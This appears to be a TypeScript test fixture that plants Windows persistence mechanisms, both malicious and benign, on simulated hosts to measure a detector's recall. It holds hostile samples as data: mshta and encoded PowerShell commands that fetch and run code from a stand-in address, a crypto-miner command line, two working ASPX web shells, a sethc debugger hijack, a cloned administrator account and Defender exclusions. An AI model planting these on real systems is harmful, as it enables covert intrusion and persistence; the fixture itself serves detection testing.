/**
 * Each mechanism of Windows in its dresses, planted one at a time on a lived-in server. The recall table, its test and the
 * coverage count rest on the same cases.
 *
 * The dresses are those of `src/model/recall.ts` as Windows has them: `unowned-binary` is a program or a library where none
 * belongs, `owned-edit` an entry of Windows itself that was changed, hidden, or made so that lists leave it out.
 */
import { linkFile } from '../../src/formats/shell-link/shell-link.fixture.ts';
import type { WindowsMechanism } from '../../src/model/mechanism.ts';
import type { Dress } from '../../src/model/recall.ts';
import { type HostSpec, ticks, usualAccounts, usualGroups, usualTasks } from './windows-host.fixture.ts';

export interface WindowsCase {
  readonly mechanism: WindowsMechanism;
  readonly dress: Dress;
  /** What it shows, in a few words. */
  readonly what: string;
  readonly spec: HostSpec;
  /** Mechanisms one of which is accused, where it is not this one alone. */
  readonly accused?: readonly WindowsMechanism[];
}

const wallet =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const fetches = 'mshta http://192.0.2.7/x.hta';
const encoded = `powershell -nop -w hidden -enc ${utf16("iex(irm 'http://192.0.2.7/a.ps1')")}`;
const services = 'ControlSet001\\Services';
const control = 'ControlSet001\\Control';
const run = 'Microsoft\\Windows\\CurrentVersion\\Run';
const nt = 'Microsoft\\Windows NT\\CurrentVersion';
const startup = 'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup';
const firewall = `${services}\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules`;
const firstClass = '{00000000-0000-4000-8000-000000000001}';

const software = (keys: HostSpec['software']): HostSpec => (keys === undefined ? {} : { software: keys });
const system = (keys: HostSpec['system']): HostSpec => (keys === undefined ? {} : { system: keys });
const user = (keys: HostSpec['user']): HostSpec => (keys === undefined ? {} : { user: keys });
const repository = (text: string): HostSpec => ({
  files: {
    'Windows/System32/wbem/Repository/OBJECTS.DATA': Buffer.from(`${'\0'.repeat(500)}${text}`, 'latin1'),
  },
});

/** A DACL of one ACE that denies Administrators all but to synchronise. */
const denied = Uint8Array.from([
  ...[1, 0, 4, 128, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 20, 0, 0, 0],
  ...[2, 0, 32, 0, 1, 0, 0, 0],
  ...[1, 0, 24, 0, 0xff, 1, 15, 0, 1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0],
]);
const library = (path: string, key: string, name = 'Driver'): HostSpec => system({ [key]: { [name]: path } });
const account = (given: Partial<Parameters<typeof madeUser>[0]>, administrator = true): HostSpec =>
  madeUser({ name: 'help', written: '2026-02-28T20:00:00Z', ...given }, administrator);

function madeUser(
  given: {
    readonly name: string;
    readonly written: string;
    readonly cloneOf?: number;
    readonly named?: boolean;
  },
  administrator: boolean,
): HostSpec {
  const { name, written, cloneOf, named } = given;
  return {
    users: [
      ...usualAccounts,
      {
        rid: 1004,
        name,
        written: ticks(written),
        ...(cloneOf === undefined ? {} : { cloneOf }),
        ...(named === undefined ? {} : { named }),
      },
    ],
    groups: usualGroups.map((group) =>
      group.rid === 544 && administrator ? { ...group, members: [...group.members, 1004] } : group,
    ),
  };
}

type Cases = Readonly<Partial<Record<Dress, readonly (readonly [what: string, spec: HostSpec])[]>>>;

const cases: Readonly<Record<WindowsMechanism, Cases>> = {
  'run-key': {
    'fetch-and-run': [
      ['mshta of an address', software({ [run]: { Update: fetches } })],
      ['PowerShell in base64, of a user', user({ [`Software\\${run}`]: { Update: encoded } })],
    ],
    'unowned-binary': [
      [
        'of old, in the key Windows',
        user({
          'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows': { Load: 'C:\\Users\\Public\\l.exe' },
        }),
      ],
      [
        'a program among pictures of everybody',
        software({ [run]: { Sync: 'C:\\Users\\Public\\Pictures\\sync.exe' } }),
      ],
      [
        'a miner with its pool',
        software({
          [run]: { winlogui: `C:\\Tools\\winlogui.exe -o stratum+tcp://pool.example.com:3333 -u ${wallet}` },
        }),
      ],
    ],
    'owned-edit': [
      [
        'a value whose name begins with NUL',
        software({ [run]: { '\0Update': '"C:\\Program Files\\Tools\\tool.exe"' } }),
      ],
    ],
    honest: [
      [
        'of old, and empty',
        user({ 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows': { Load: '', Run: '' } }),
      ],
      [
        'updaters and trays',
        software({
          [run]: {
            SecurityHealth: '%windir%\\system32\\SecurityHealthSystray.exe',
            Tray: '"C:\\Program Files\\Vendor\\tray.exe" /min',
            Teams: '%LOCALAPPDATA%\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe"',
          },
        }),
      ],
    ],
  },
  'startup-folder': {
    'fetch-and-run': [
      [
        'in a folder that the registry names instead',
        {
          user: {
            'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders': {
              Startup: '%USERPROFILE%\\AppData\\Roaming\\Cache',
            },
          },
          files: { 'Users/Administrator/AppData/Roaming/Cache/u.bat': `${encoded}\r\n` },
        },
      ],
      ['a batch file that fetches', { files: { [`${startup}/u.bat`]: `@echo off\r\n${encoded}\r\n` } }],
    ],
    'unowned-binary': [
      [
        'a link to a program in a temporary folder',
        {
          files: {
            [`${startup}/Adobe.lnk`]: linkFile({ localPath: 'C:\\Windows\\Temp\\a.exe', arguments: '' }),
          },
        },
      ],
    ],
    honest: [
      [
        'in the folder that Windows names',
        {
          user: {
            'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders': {
              Startup: '%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup',
            },
          },
          files: {
            'Users/Administrator/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.cmd':
              'start "" "C:\\Program Files\\Ops\\tray.exe"\r\n',
          },
        },
      ],
      [
        'drives of an office',
        { files: { [`${startup}/drives.cmd`]: 'net use Z: \\\\fileserver\\share /persistent:yes\r\n' } },
      ],
    ],
  },
  'logon-script': {
    'fetch-and-run': [
      [
        'of a policy of the machine',
        software({
          'Microsoft\\Windows\\CurrentVersion\\Group Policy\\Scripts\\Startup\\0\\0': {
            Script: 'powershell.exe',
            Parameters: encoded.slice(11),
          },
        }),
      ],
      ['of a user', user({ Environment: { UserInitMprLogonScript: fetches } })],
    ],
    'unowned-binary': [
      [
        'a program of everybody',
        user({ Environment: { UserInitMprLogonScript: 'C:\\Users\\Public\\l.exe' } }),
      ],
    ],
    honest: [
      [
        'of a policy of a domain',
        software({
          'Microsoft\\Windows\\CurrentVersion\\Group Policy\\Scripts\\Logon\\0\\0': {
            Script: '\\\\corp.example\\sysvol\\corp.example\\scripts\\map.bat',
            Parameters: '/q',
          },
        }),
      ],
      ['of a domain', user({ Environment: { UserInitMprLogonScript: '\\\\dc01\\netlogon\\map.cmd' } })],
    ],
  },
  winlogon: {
    'fetch-and-run': [
      ['behind the shell', software({ [`${nt}\\Winlogon`]: { Shell: `explorer.exe, ${encoded}` } })],
    ],
    'unowned-binary': [
      [
        'behind Userinit',
        software({
          [`${nt}\\Winlogon`]: { Userinit: 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe' },
        }),
      ],
    ],
    'owned-edit': [
      [
        'a shell instead of the desktop',
        software({ [`${nt}\\Winlogon`]: { Shell: 'C:\\Windows\\Fonts\\explorer.exe' } }),
      ],
    ],
    honest: [
      ['a kiosk', software({ [`${nt}\\Winlogon`]: { Shell: 'C:\\Program Files\\Kiosk\\kiosk.exe' } })],
    ],
  },
  'active-setup': {
    'fetch-and-run': [
      [
        'a component',
        software({ 'Microsoft\\Active Setup\\Installed Components\\{1}': { StubPath: fetches } }),
      ],
    ],
    'unowned-binary': [
      [
        'a component in a temporary folder',
        software({
          'Microsoft\\Active Setup\\Installed Components\\{1}': { StubPath: 'C:\\Windows\\Temp\\s.exe' },
        }),
      ],
    ],
    honest: [
      [
        'a browser',
        software({
          'Microsoft\\Active Setup\\Installed Components\\{8A69D345-D564-463c-AFF1-A69D9E530F96}': {
            StubPath:
              '"C:\\Program Files\\Google\\Chrome\\Application\\120.0.0.0\\Installer\\chrmstp.exe" --configure-user-settings',
          },
        }),
      ],
    ],
  },
  'windows-service': {
    'fetch-and-run': [
      ['a command', system({ [`${services}\\Upd`]: { Type: 16, Start: 2, ImagePath: `cmd /c ${fetches}` } })],
      [
        'behind a failure',
        system({
          [`${services}\\Upd`]: {
            Type: 16,
            Start: 2,
            ImagePath: '"C:\\Program Files\\Vendor\\a.exe"',
            FailureCommand: encoded,
          },
        }),
      ],
    ],
    'unowned-binary': [
      [
        'a library of svchost where everybody may write',
        system({
          [`${services}\\Upd`]: {
            Type: 32,
            Start: 2,
            ImagePath: '%SystemRoot%\\system32\\svchost.exe -k netsvcs',
          },
          [`${services}\\Upd\\Parameters`]: { ServiceDll: 'C:\\Users\\Public\\upd.dll' },
        }),
      ],
      [
        'a name of Windows among fonts',
        system({
          [`${services}\\Upd`]: { Type: 16, Start: 2, ImagePath: 'C:\\Windows\\Fonts\\svchost.exe' },
        }),
      ],
    ],
    'owned-edit': [
      [
        'one that a list of services does not show',
        system({
          [`${services}\\Upd`]: { Type: 16, Start: 2, ImagePath: 'C:\\Program Files\\Vendor\\a.exe' },
          [`${services}\\Upd\\Security`]: { Security: denied },
        }),
      ],
    ],
    honest: [
      [
        'an agent with a failure command',
        system({
          [`${services}\\NVDisplay`]: {
            Type: 16,
            Start: 2,
            ImagePath:
              '"C:\\Program Files\\NVIDIA Corporation\\Display.NvContainer\\NVDisplay.Container.exe" -s',
            FailureCommand: 'cmd.exe /C C:\\Windows\\NvContainerRecovery.bat',
          },
        }),
      ],
      [
        'one that a service wrapper starts',
        system({
          [`${services}\\app`]: { Type: 16, Start: 2, ImagePath: 'C:\\Program Files\\nssm\\nssm.exe' },
          [`${services}\\app\\Parameters`]: { Application: 'D:\\app\\node.exe', AppParameters: 'server.js' },
        }),
      ],
    ],
  },
  'windows-driver': {
    'unowned-binary': [
      [
        'one with a hole, among downloads of everybody',
        system({
          [`${services}\\aswArPot`]: {
            Type: 1,
            Start: 2,
            ImagePath: '\\??\\C:\\Users\\Public\\aswArPot.sys',
          },
        }),
      ],
      [
        'started at boot from a temporary folder',
        system({
          [`${services}\\drv`]: { Type: 1, Start: 1, ImagePath: '\\??\\C:\\Windows\\Temp\\drv.sys' },
        }),
      ],
    ],
    honest: [
      [
        'one with a hole, of the maker of the board',
        system({
          [`${services}\\gdrv3`]: {
            Type: 1,
            Start: 3,
            ImagePath: '\\SystemRoot\\System32\\drivers\\gdrv3.sys',
          },
        }),
      ],
      [
        'left by tools that read sensors',
        system({
          [`${services}\\GPU-Z`]: {
            Type: 1,
            Start: 3,
            ImagePath: '\\??\\C:\\Users\\ADMINI~1\\AppData\\Local\\Temp\\GPU-Z.sys',
          },
          [`${services}\\WinRing0_1_2_0`]: {
            Type: 1,
            Start: 3,
            ImagePath: '\\??\\C:\\Program Files\\OpenHardwareMonitor\\OpenHardwareMonitorLib.sys',
          },
        }),
      ],
    ],
  },
  'scheduled-task': {
    'fetch-and-run': [
      [
        'every hour',
        {
          tasks: [
            ...usualTasks,
            { path: '\\Sync', command: 'powershell.exe', parameters: encoded.slice(11) },
          ],
        },
      ],
    ],
    'unowned-binary': [
      [
        'a program of everybody',
        { tasks: [...usualTasks, { path: '\\Sync', command: 'C:\\Users\\Public\\s.exe' }] },
      ],
    ],
    'owned-edit': [
      [
        'without its descriptor, so that no list shows it',
        {
          tasks: [
            ...usualTasks,
            { path: '\\Sync', command: 'C:\\Program Files\\T\\t.exe', descriptor: false },
          ],
        },
      ],
      [
        'whose index is 0',
        { tasks: [...usualTasks, { path: '\\Sync', command: 'C:\\Program Files\\T\\t.exe', index: 0 }] },
      ],
      [
        'of which the registry alone knows',
        { tasks: [...usualTasks, { path: '\\Sync', command: 'C:\\Program Files\\T\\t.exe', file: false }] },
      ],
      [
        'whose file says another command than the registry',
        {
          tasks: [
            ...usualTasks,
            {
              path: '\\Microsoft\\Windows\\Defrag\\Sync',
              command: '%windir%\\system32\\defrag.exe',
              cached: 'C:\\Program Files\\T\\t.exe',
            },
          ],
        },
      ],
    ],
    honest: [
      [
        'a backup and a certificate',
        {
          tasks: [
            ...usualTasks,
            { path: '\\Backup', command: 'C:\\Program Files\\Veeam\\backup.exe', parameters: '/full' },
            {
              path: '\\win-acme renew',
              command: 'C:\\Program Files\\win-acme\\wacs.exe',
              parameters: '--renew --baseuri "https://acme-v02.api.letsencrypt.org/"',
            },
          ],
        },
      ],
    ],
  },
  'image-hijack': {
    'fetch-and-run': [
      [
        'of an editor',
        software({ [`${nt}\\Image File Execution Options\\notepad.exe`]: { Debugger: encoded } }),
      ],
    ],
    'unowned-binary': [
      [
        'of Task Manager',
        software({
          [`${nt}\\Image File Execution Options\\taskmgr.exe`]: { Debugger: 'C:\\Users\\Public\\t.exe' },
        }),
      ],
    ],
    'owned-edit': [
      [
        'a shell before the logon',
        software({
          [`${nt}\\Image File Execution Options\\sethc.exe`]: { Debugger: 'C:\\Windows\\System32\\cmd.exe' },
        }),
      ],
    ],
    honest: [
      [
        'a better task manager and a debugger',
        software({
          [`${nt}\\Image File Execution Options\\taskmgr.exe`]: {
            Debugger: '"C:\\Program Files\\Sysinternals\\procexp64.exe"',
          },
          [`${nt}\\Image File Execution Options\\w3wp.exe`]: {
            Debugger: '"C:\\Program Files\\Debugging Tools for Windows (x64)\\windbg.exe" -g',
          },
        }),
      ],
    ],
  },
  'silent-exit': {
    'fetch-and-run': [
      [
        'after a scanner',
        software({ [`${nt}\\SilentProcessExit\\MsMpEng.exe`]: { MonitorProcess: encoded } }),
      ],
    ],
    'unowned-binary': [
      [
        'a guard',
        software({
          [`${nt}\\SilentProcessExit\\svc.exe`]: { MonitorProcess: 'C:\\Windows\\Temp\\guard.exe' },
        }),
      ],
    ],
    honest: [
      [
        'a dump of what ends',
        software({
          [`${nt}\\SilentProcessExit\\w3wp.exe`]: {
            MonitorProcess: 'C:\\Program Files\\Sysinternals\\procdump.exe',
            ReportingMode: 2,
          },
        }),
      ],
    ],
  },
  'appinit-dll': {
    'unowned-binary': [
      [
        'a library of everybody',
        software({ [`${nt}\\Windows`]: { AppInit_DLLs: 'C:\\Users\\Public\\a.dll', LoadAppInit_DLLs: 1 } }),
      ],
    ],
    honest: [
      [
        'of a driver of screens',
        software({
          [`${nt}\\Windows`]: {
            AppInit_DLLs: 'C:\\Windows\\system32\\nvinitx.dll',
            LoadAppInit_DLLs: 1,
          },
        }),
      ],
    ],
  },
  'appcert-dll': {
    'unowned-binary': [
      [
        'a library of everybody',
        library('C:\\Users\\Public\\c.dll', `${control}\\Session Manager\\AppCertDlls`, 'x'),
      ],
    ],
    honest: [
      [
        'of a maker',
        library('C:\\Program Files\\Vendor\\cert.dll', `${control}\\Session Manager\\AppCertDlls`, 'vendor'),
      ],
    ],
  },
  'lsa-package': {
    'unowned-binary': [
      [
        'a provider of security',
        system({
          [`${control}\\SecurityProviders`]: { SecurityProviders: 'credssp.dll, C:\\Windows\\Temp\\s.dll' },
        }),
      ],
      [
        'in a temporary folder',
        system({ [`${control}\\Lsa`]: { 'Notification Packages': ['scecli', 'C:\\Windows\\Temp\\pw.dll'] } }),
      ],
    ],
    honest: [
      [
        'the provider that Windows has',
        system({ [`${control}\\SecurityProviders`]: { SecurityProviders: 'credssp.dll' } }),
      ],
      [
        'of a second factor',
        system({
          [`${control}\\Lsa`]: {
            'Authentication Packages': ['msv1_0', 'sshdpinauthlsa'],
            'Security Packages': ['kerberos', 'msv1_0', 'vendorauth'],
          },
        }),
      ],
    ],
  },
  'print-monitor': {
    'unowned-binary': [
      [
        'in a temporary folder',
        library('C:\\Windows\\Temp\\m.dll', `${control}\\Print\\Monitors\\Update Port`),
      ],
    ],
    honest: [
      ['of a printer', library('CNMLM8Q.DLL', `${control}\\Print\\Monitors\\Canon BJ Language Monitor`)],
    ],
  },
  'time-provider': {
    'unowned-binary': [
      [
        'in a temporary folder',
        library('C:\\Users\\Public\\t.dll', `${services}\\W32Time\\TimeProviders\\Upd`, 'DllName'),
      ],
    ],
    honest: [
      [
        'of a virtual machine',
        library(
          '%SystemRoot%\\System32\\vmictimeprovider.dll',
          `${services}\\W32Time\\TimeProviders\\VMICTimeProvider`,
          'DllName',
        ),
      ],
    ],
  },
  'com-hijack': {
    'fetch-and-run': [
      [
        'a server that fetches',
        {
          software: {
            [`Classes\\CLSID\\${firstClass}\\LocalServer32`]: { '': 'C:\\Windows\\System32\\x.exe' },
          },
          classes: { [`CLSID\\${firstClass}\\LocalServer32`]: { '': encoded } },
        },
      ],
    ],
    'unowned-binary': [
      [
        'a library in a temporary folder',
        {
          classes: {
            [`CLSID\\${firstClass}\\InprocServer32`]: {
              '': 'C:\\Users\\Administrator\\AppData\\Local\\Temp\\a.dll',
            },
          },
        },
      ],
    ],
    honest: [
      [
        'of a program that a user has for himself',
        {
          classes: {
            [`CLSID\\${firstClass}\\InprocServer32`]: {
              '': 'C:\\Users\\Administrator\\AppData\\Local\\Microsoft\\OneDrive\\23.1\\FileSyncShell64.dll',
            },
          },
        },
      ],
    ],
  },
  'netsh-helper': {
    'unowned-binary': [
      ['in a temporary folder', software({ 'Microsoft\\NetSh': { x: 'C:\\Windows\\Temp\\n.dll' } })],
    ],
    honest: [
      [
        'of a maker',
        software({ 'Microsoft\\NetSh': { vendor: 'C:\\Program Files\\Vendor\\nshvendor.dll' } }),
      ],
    ],
  },
  'cor-profiler': {
    'unowned-binary': [
      [
        'by its class alone',
        {
          system: {
            [`${control}\\Session Manager\\Environment`]: {
              COR_ENABLE_PROFILING: '1',
              COR_PROFILER: '{cf0d821e-299b-5307-a3d8-b283c03916db}',
            },
          },
          software: {
            'Classes\\CLSID\\{cf0d821e-299b-5307-a3d8-b283c03916db}\\InprocServer32': {
              '': 'C:\\ProgramData\\p.dll',
            },
          },
        },
      ],
      [
        'for one service',
        system({
          [`${services}\\W3SVC`]: {
            Type: 32,
            Start: 2,
            ImagePath: '%windir%\\system32\\svchost.exe -k iissvcs',
            Environment: ['COR_ENABLE_PROFILING=1', 'COR_PROFILER_PATH=C:\\Users\\Public\\p.dll'],
          },
        }),
      ],
      [
        'for the whole machine',
        system({
          [`${control}\\Session Manager\\Environment`]: {
            COR_ENABLE_PROFILING: '1',
            COR_PROFILER: '{cf0d821e-299b-5307-a3d8-b283c03916db}',
            COR_PROFILER_PATH: 'C:\\ProgramData\\p.dll',
          },
        }),
      ],
    ],
    honest: [
      [
        'of an agent, for one service',
        system({
          [`${services}\\W3SVC`]: {
            Type: 32,
            Start: 2,
            ImagePath: '%windir%\\system32\\svchost.exe -k iissvcs',
            Environment: [
              'COR_ENABLE_PROFILING=1',
              'COR_PROFILER_PATH=C:\\Program Files\\AppDynamics\\p.dll',
            ],
          },
        }),
      ],
      [
        'of a monitoring agent',
        system({
          [`${control}\\Session Manager\\Environment`]: {
            COR_ENABLE_PROFILING: '1',
            COR_PROFILER: '{71DA0A04-7777-4EC6-9643-7D28B46A8A41}',
            COR_PROFILER_PATH: 'C:\\Program Files\\New Relic\\.NET Agent\\NewRelic.Profiler.dll',
          },
        }),
      ],
    ],
  },
  'command-autorun': {
    'fetch-and-run': [['of the machine', software({ 'Microsoft\\Command Processor': { AutoRun: encoded } })]],
    'unowned-binary': [
      [
        'of a user',
        user({ 'Software\\Microsoft\\Command Processor': { AutoRun: 'C:\\Users\\Public\\c.exe' } }),
      ],
    ],
    honest: [
      ['a code page', user({ 'Software\\Microsoft\\Command Processor': { AutoRun: '@chcp 65001>nul' } })],
    ],
  },
  'wmi-subscription': {
    'fetch-and-run': [
      ['a command', repository(`CommandLineEventConsumer\0\0${encoded}\0\0SCM Events Consumer2\0\0`)],
      [
        'a script',
        repository(
          'ActiveScriptEventConsumer\0\0VBScript\0\0Set s = CreateObject("WScript.Shell")\r\ns.Run "mshta http://192.0.2.7/x.hta"\0\0Upd\0\0',
        ),
      ],
    ],
    'unowned-binary': [
      ['a program', repository('CommandLineEventConsumer\0\0C:\\Windows\\Temp\\w.exe\0\0Upd\0\0')],
    ],
    honest: [
      [
        'what Windows has',
        repository(
          'CommandLineEventConsumer\0\0cscript KernCap.vbs\0\0BVTConsumer\0\0NTEventLogEventConsumer\0\0SCM Event Log Consumer\0\0',
        ),
      ],
    ],
  },
  'windows-account': {
    'owned-edit': [
      ['the number of the administrator', account({ cloneOf: 500 }, false)],
      ['a dollar sign at the end', account({ name: 'help$' })],
      ['in one place alone', account({ named: false })],
    ],
    honest: [
      ['an administrator who came last year', account({ name: 'wang', written: '2025-02-01T00:00:00Z' })],
      ['a new colleague', account({ name: 'chen' }, false)],
    ],
  },
  'logon-screen-list': {
    'owned-edit': [
      [
        'an administrator whom the logon screen does not show',
        {
          ...account({ name: 'help' }),
          software: { [`${nt}\\Winlogon\\SpecialAccounts\\UserList`]: { help: 0 } },
        },
      ],
    ],
    honest: [
      [
        'the account of a database',
        {
          ...account({ name: 'postgres', written: '2021-01-01T00:00:00Z' }, false),
          software: { [`${nt}\\Winlogon\\SpecialAccounts\\UserList`]: { postgres: 0 } },
        },
      ],
    ],
  },
  'defender-exclusion': {
    'owned-edit': [
      ['a drive', software({ 'Microsoft\\Windows Defender\\Exclusions\\Paths': { 'C:\\': 0 } })],
      [
        'PowerShell',
        software({ 'Microsoft\\Windows Defender\\Exclusions\\Processes': { 'powershell.exe': 0 } }),
      ],
    ],
    honest: [
      [
        'a database',
        software({
          'Microsoft\\Windows Defender\\Exclusions\\Paths': { 'D:\\SQLData': 0 },
          'Microsoft\\Windows Defender\\Exclusions\\Processes': { 'sqlservr.exe': 0 },
          'Microsoft\\Windows Defender\\Exclusions\\Extensions': { '.mdf': 0 },
        }),
      ],
    ],
  },
  'defender-setting': {
    honest: [
      [
        'switched off by a policy',
        software({ 'Policies\\Microsoft\\Windows Defender': { DisableAntiSpyware: 1 } }),
      ],
    ],
  },
  'port-proxy': {
    'owned-edit': [
      [
        'the mark of DTLMiner',
        system({ [`${services}\\PortProxy\\v4tov4\\tcp`]: { '*/65531': '1.1.1.1/53' } }),
      ],
    ],
    honest: [
      ['to a neighbour', system({ [`${services}\\PortProxy\\v4tov4\\tcp`]: { '*/8080': '10.0.0.9/80' } })],
    ],
  },
  'windows-firewall-rule': {
    'owned-edit': [
      [
        'the same by a policy',
        software({
          'Policies\\Microsoft\\WindowsFirewall\\FirewallRules': {
            '{1}': 'v2.30|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|',
          },
        }),
      ],
      [
        'the mark of DTLMiner',
        system({
          [firewall]: { '{1}': 'v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=65529|Name=SDNSd|' },
        }),
      ],
      [
        'rivals kept out of file sharing',
        system({
          [firewall]: { '{1}': 'v2.30|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|' },
        }),
      ],
    ],
    honest: [
      [
        'a policy of IPsec against worms',
        software({
          'Policies\\Microsoft\\Windows\\IPSec\\Policy\\Local': {
            ActivePolicy: 'SOFTWARE\\Policies\\Microsoft\\Windows\\IPSec\\Policy\\Local\\ipsecPolicy{1}',
          },
          'Policies\\Microsoft\\Windows\\IPSec\\Policy\\Local\\ipsecPolicy{1}': { ipsecName: 'close445' },
        }),
      ],
      [
        'of programs',
        system({
          [firewall]: {
            '{1}':
              'v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=1433|App=C:\\Program Files\\Microsoft SQL Server\\sqlservr.exe|Name=SQL|',
            '{2}':
              'v2.30|Action=Block|Active=TRUE|Dir=Out|Protocol=6|App=C:\\Program Files\\Vendor\\a.exe|Name=no updates|',
          },
        }),
      ],
    ],
  },
  'windows-dns': {
    honest: [
      [
        'of all interfaces, and of IPv6',
        system({
          [`${services}\\Tcpip\\Parameters`]: { Hostname: 'WEB-07', NameServer: '10.0.0.2' },
          [`${services}\\Tcpip6\\Parameters\\Interfaces\\{1}`]: { NameServer: '2001:db8::53' },
        }),
      ],
      [
        'of everybody',
        system({
          [`${services}\\Tcpip\\Parameters\\Interfaces\\{6e1f9a4c-0000-4000-8000-000000000001}`]: {
            NameServer: '223.5.5.5,114.114.114.114',
          },
        }),
      ],
    ],
  },
  'windows-web-page': {
    'unowned-binary': [
      [
        'a page that runs what it is sent',
        {
          files: {
            'inetpub/wwwroot/upload/a.aspx':
              '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
          },
        },
      ],
      [
        'a page that starts a shell',
        {
          files: {
            'inetpub/wwwroot/b.aspx':
              '<%@ Page Language="C#"%><script runat="server">void Page_Load(){var c=Request["c"];var p=new System.Diagnostics.Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.Arguments="/c "+c;p.Start();}</script>',
          },
        },
      ],
    ],
    honest: [
      [
        'a form and a report',
        {
          files: {
            'inetpub/wwwroot/old.asp':
              '<% name = Request.Form("name") : Set rs = conn.Execute("select 1") %>',
          },
        },
      ],
    ],
  },
};

const alsoAccused: Readonly<Partial<Record<WindowsMechanism, readonly WindowsMechanism[]>>> = {
  // The list names an account; what weighs is who that is.
  'logon-screen-list': ['windows-account'],
};

export const windowsCases: readonly WindowsCase[] = Object.entries(cases).flatMap(([id, byDress]) => {
  const mechanism = id as WindowsMechanism;
  return Object.entries(byDress).flatMap(([dress, all]) =>
    all.map(
      ([what, spec]): WindowsCase => ({
        mechanism,
        dress: dress as Dress,
        what,
        spec,
        accused: [mechanism, ...(alsoAccused[mechanism] ?? [])],
      }),
    ),
  );
});
